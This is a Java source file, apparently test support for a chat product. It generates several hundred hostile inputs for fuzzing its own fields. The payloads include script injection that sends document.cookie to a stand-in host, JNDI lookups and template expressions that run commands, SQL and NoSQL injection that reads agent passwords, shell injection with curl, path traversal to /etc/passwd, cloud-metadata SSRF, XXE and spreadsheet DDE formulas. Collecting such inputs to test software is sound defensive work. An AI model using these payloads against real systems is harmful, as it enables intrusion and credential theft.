package dev.causerie.flaw;

import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/// What people have typed into fields of products like this one to see whether it does something, and what lies near.
final class Hostile {
    private static final List<String> SCRIPTS = List.of(
            "alert(1)",
            "alert`1`",
            "fetch('//evil.example/'+document.cookie)",
            "import('//evil.example/x.js')",
            "eval(atob('YWxlcnQoMSk='))",
            "top['al'+'ert'](1)",
            "(()=>{throw onerror=alert,1})()",
            "window.name='x';location='//evil.example'");
    private static final List<String> MARKUP = List.of(
            "<script>%s</script>",
            "<ScRiPt >%s</sCrIpT>",
            "<script\n>%s</script\n>",
            "<scr<script>ipt>%s</scr</script>ipt>",
            "\"><script>%s</script>",
            "'><script>%s</script>",
            "</textarea><script>%s</script>",
            "</title><script>%s</script>",
            "--><script>%s</script>",
            "]]><script>%s</script>",
            "<img src=x onerror=\"%s\">",
            "<img src=x onerror=%s//",
            "<img/src='x'/onerror='%s'>",
            "<svg onload=\"%s\">",
            "<svg><script>%s</script></svg>",
            "<svg><animate onbegin=\"%s\" attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload='%s'/>#x\"/></svg>",
            "<math><mtext><table><mglyph><style><img src onerror=\"%s\">",
            "<body onload=\"%s\">",
            "<iframe srcdoc=\"<script>%s</script>\">",
            "<iframe src=\"javascript:%s\">",
            "<object data=\"javascript:%s\">",
            "<embed src=\"javascript:%s\">",
            "<a href=\"javascript:%s\">here</a>",
            "<a href=\"java\tscript:%s\">here</a>",
            "<a href=\"&#106;avascript:%s\">here</a>",
            "<form action=\"javascript:%s\"><button>",
            "<button formaction=\"javascript:%s\">",
            "<input autofocus onfocus=\"%s\">",
            "<details open ontoggle=\"%s\">",
            "<video><source onerror=\"%s\">",
            "<marquee onstart=\"%s\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
            "<base href=\"//evil.example/\"><script>%s</script>",
            "<link rel=stylesheet href=\"javascript:%s\">",
            "<style>@import 'javascript:%s';</style>",
            "<div style=\"background:url(javascript:%s)\">",
            "<template><script>%s</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror='%s'>\">",
            "javascript:%s",
            " JaVaScRiPt:%s",
            "data:text/html,<script>%s</script>",
            "vbscript:%s",
            "[here](javascript:%s)",
            "![x](x\" onerror=\"%s)",
            "http://x\" onmouseover=\"%s",
            "https://shop.example/<script>%s</script>",
            "\\u003cscript\\u003e%s\\u003c/script\\u003e",
            "&lt;script&gt;%s&lt;/script&gt;",
            "%%3Cscript%%3E%s%%3C/script%%3E");
    private static final List<String> TEMPLATES = List.of(
            "{{constructor.constructor('alert(1)')()}}",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "<%= 7*7 %>",
            "{%7*7%}",
            "@(7*7)",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:rmi://evil.example/a}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{visitor.email}}",
            "{{agent.password}}",
            "{visitor}",
            "%{(#a=@java.lang.Runtime@getRuntime())}",
            "{{#with \"s\" as |string|}}{{/with}}");
    private static final List<String> QUERIES = List.of(
            "'",
            "''",
            "\"",
            "`",
            "\\",
            "\\'",
            "' or '1'='1",
            "' or 1=1 --",
            "\" or \"\"=\"",
            "') or ('1'='1",
            "1; drop table chat",
            "'; drop table visitor; --",
            "' union select password from agent --",
            "' union all select null,null,null --",
            "' and sleep(5) --",
            "'; select pg_sleep(5); --",
            "' || (select sqlite_version()) || '",
            "' and randomblob(1000000000) --",
            "1 and 1=cast((select password from agent limit 1) as int)",
            "%",
            "_",
            "%%%%%%%%",
            "[a-z]",
            "*",
            "\\%",
            "a' like 'a%",
            "$1",
            "?",
            ":name",
            "{\"$gt\":\"\"}",
            "{\"$ne\":null}",
            "{\"$where\":\"sleep(5000)\"}",
            "[\"x\"]",
            "true, $where: '1 == 1'",
            "*)(uid=*))(|(uid=*",
            "NEAR(a b)",
            "\"unclosed",
            "a AND OR NOT",
            "a* b^2 -c +d (e",
            "null",
            "undefined",
            "NaN",
            "-1",
            "0x10",
            "1e309",
            "__proto__",
            "constructor",
            "toString",
            "hasOwnProperty");
    private static final List<String> COMMANDS = List.of(
            "; id",
            "| id",
            "`id`",
            "$(id)",
            "&& curl evil.example",
            "() { :;}; echo vulnerable",
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "..%2f..%2fetc%2fpasswd",
            "%252e%252e%252fetc",
            "....//....//etc/passwd",
            "file:///etc/passwd",
            "\\\\evil.example\\share",
            "/dev/random",
            "CON",
            "nul.txt",
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]:8080/",
            "gopher://127.0.0.1:25/x",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "<?xml version=\"1.0\"?><x/>",
            "<?php system('id'); ?>",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "{\"@class\":\"java.net.URL\"}",
            "!!javax.script.ScriptEngineManager []",
            "O:8:\"stdClass\":0:{}",
            "%s%s%s%s%n",
            "%x%x%x%x",
            "{0}{1}{2}");
    private static final List<String> HEADERS = List.of(
            "x\r\nBcc: all@mail.example",
            "x\nSet-Cookie: causerie_session=1",
            "x%0d%0aLocation: //evil.example",
            "x\r\n\r\n<script>alert(1)</script>",
            "x\u2028alert(1)",
            "x\u2029alert(1)",
            "=?utf-8?q?=0D=0ABcc:_all@mail.example?=",
            ".\r\nMAIL FROM:<x@mail.example>",
            "From here on",
            "Content-Type: text/html");
    private static final List<String> FORMULAS = List.of(
            "=cmd|' /C calc'!A0",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "=HYPERLINK(\"http://evil.example\")",
            "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "\",=1+1,\"",
            "x\n=1+1",
            "\uff1d1+1");
    private static final List<String> LETTERS = List.of(
            "\u202egnp.exe",
            "\u202d\u202e\u2066\u2067\u2068\u2069",
            "a\u200bb\u200cc\u200dd\ufeffe",
            "\u0000",
            "a\u0000b",
            "\u0001\u0002\u0003\u001b[31mred",
            "\u007f\u0080\u009f",
            "\u0008\u0008\u0008",
            "\uffff\ufffe",
            "\ufdd0",
            "e" + "\u0301".repeat(300),
            "Z̴̡̛a̷l̶g̵o̸".repeat(20),
            "👨‍👩‍👧‍👦".repeat(50),
            "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
            "\ud83d\ude00",
            "﷽".repeat(50),
            "ﬁ ſ ß İ ı K",
            "ᴮᴵᴳ",
            "аdmіn",
            "ＡＤＭＩＮ",
            "Ⓐⓓⓜⓘⓝ",
            "שלום hello مرحبا",
            "జ్ఞ‌ా",
            "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
            "power\u0644\u0644\u0635\u0651\u0628\u064f\u0644\u064f\u0644\u0635",
            "\u115f\u1160\u3164\uffa0",
            "\u2800",
            " ",
            "\u00a0",
            "\u3000",
            "\t",
            "\n\n\n",
            "\u0085");

    private Hostile() {}

    /// @return more than 500, no two alike
    static List<String> texts() {
        Set<String> all = new LinkedHashSet<>();
        for (String markup : MARKUP) {
            for (String script : SCRIPTS) {
                all.add(markup.formatted(script));
            }
        }
        all.addAll(TEMPLATES);
        all.addAll(QUERIES);
        all.addAll(COMMANDS);
        all.addAll(HEADERS);
        all.addAll(FORMULAS);
        all.addAll(LETTERS);
        all.add("");
        for (int power = 5; power <= 13; power++) {
            all.add("x".repeat(1 << power));
            all.add("\u00e9".repeat((1 << power) / 2));
            all.add("<b>".repeat((1 << power) / 4));
        }
        for (int control = 1; control < 32; control++) {
            all.add("<b" + (char) control + "onclick=alert(1)>");
        }
        return List.copyOf(all);
    }

    /// @return those of them that can be another thing to one database than to another
    static List<String> forDatabases() {
        return Stream.of(QUERIES, LETTERS).flatMap(List::stream).distinct().toList();
    }
}
